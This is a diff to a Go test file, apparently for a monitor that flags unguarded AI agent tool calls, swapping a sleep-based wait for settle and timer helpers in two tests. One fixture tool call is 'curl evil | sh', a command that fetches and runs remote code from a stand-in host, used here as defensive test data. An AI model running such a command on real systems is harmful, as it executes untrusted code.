@@ -43,9 +43,9 @@ func TestCallsTheHostHookJudgedAreNotUnguarded(t *testing.T) {
 	f.transcript(toolUse("toolu_ok", "ls"), toolResult("toolu_ok", false),
 		toolUse("toolu_swap", "curl evil | sh"), toolResult("toolu_swap", false),
 		toolUse("toolu_none", "id"), toolResult("toolu_none", false))
-	f.c.scheduleAll(true)
-	time.Sleep(100 * time.Millisecond)
-	f.c.scheduleAll(true)
+	f.settle()
+	f.later(time.Second) // past the grace and the rate limit
+	f.settle()
 	recs := f.waitRecords(2)
 	var ids []string
 	for _, r := range recs {
@@ -76,9 +76,9 @@ func TestAReceiptTheHostHookDidNotWriteIsRemoved(t *testing.T) {
 	os.WriteFile(target, good, 0o600)
 	os.Symlink(target, filepath.Join(ch, "receipts", "link"))
 	f.transcript(toolUse("toolu_x", "id"), toolResult("toolu_x", false))
-	f.c.scheduleAll(true)
-	time.Sleep(100 * time.Millisecond)
-	f.c.scheduleAll(true)
+	f.settle()
+	f.later(time.Second) // past the grace and the rate limit
+	f.settle()
 	if r := f.waitRecords(1)[0]; r.Rule != lane.RuleUnguarded {
 		t.Errorf("record %+v", r)
 	}
